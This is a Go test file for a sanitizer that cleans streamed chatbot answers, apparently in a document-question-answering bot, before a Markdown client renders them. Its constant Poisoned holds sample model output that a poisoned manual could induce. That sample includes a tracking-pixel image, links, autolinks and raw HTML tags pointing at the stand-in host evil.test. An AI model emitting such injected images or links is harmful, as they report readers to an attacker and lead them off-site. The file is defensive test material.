package web

import (
	"bytes"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"

	"github.com/shifu-factory/shifu/bot"
)

// Poisoned is model output a poisoned manual could produce: an image that
// reports who read the answer, links and autolinks elsewhere, raw HTML, a
// reference definition; and one citation link of our own.
const Poisoned = `Replace the mechanical seal, part MS-220 [1]. ![pixel](https://evil.test/p.png?u=1) ` +
	`See [the kit](https://evil.test/kit) or <https://evil.test/a> or www.evil.test/b or ![x](//evil.test/q.png), ` +
	`<img src="//evil.test/r.png"> <a href="//evil.test/s">here</a> [ref][r] and [the manual](/documents/1#page=1).

[r]: //evil.test/t`

// clientLinks renders s as a permissive Markdown client would (CommonMark
// with GitHub's extensions and its autolinks, raw HTML passed through) and
// returns the images and the links other than our document paths it shows.
func clientLinks(t *testing.T, s string) []string {
	t.Helper()
	var b bytes.Buffer
	if err := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe())).Convert([]byte(s), &b); err != nil {
		t.Fatal(err)
	}
	var bad []string
	if strings.Contains(b.String(), "<img") {
		bad = append(bad, "an image")
	}
	if href := foreignHref(b.String()); href != "" {
		bad = append(bad, href)
	}
	return bad
}

// ClientLinks is clientLinks for the tests outside the package.
var ClientLinks = clientLinks

// The stream's cuts: text split anywhere arrives cleaned the same as whole
// wherever a link is, and Chinese text without spaces still streams.
func TestSafeStream(t *testing.T) {
	for _, in := range []string{Poisoned, "扭矩为25牛米[1]。见![图](https://evil.test/p.png)和[手册](/documents/2#page=3)。然后检查密封件是否泄漏，并记录结果。"} {
		for size := 1; size <= 7; size++ {
			var out []string
			s := safeStream{emit: func(d string) { out = append(out, d) }}
			for r := []rune(in); len(r) > 0; {
				n := min(size, len(r))
				s.write(string(r[:n]))
				r = r[n:]
			}
			s.flush()
			got := strings.Join(out, "")
			if bad := clientLinks(t, got); len(bad) > 0 {
				t.Errorf("chunks of %d: %v in %q", size, bad, got)
			}
			if !strings.Contains(got, "/documents/") || len(out) < 3 {
				t.Errorf("chunks of %d: %d pieces %q (want the document link kept, streamed in pieces)", size, len(out), got)
			}
			if whole := bot.Markdown(in, ""); size == 1 && got != whole && !strings.Contains(in, "evil.test/q") {
				t.Errorf("streamed %q, whole %q", got, whole)
			}
		}
	}
}
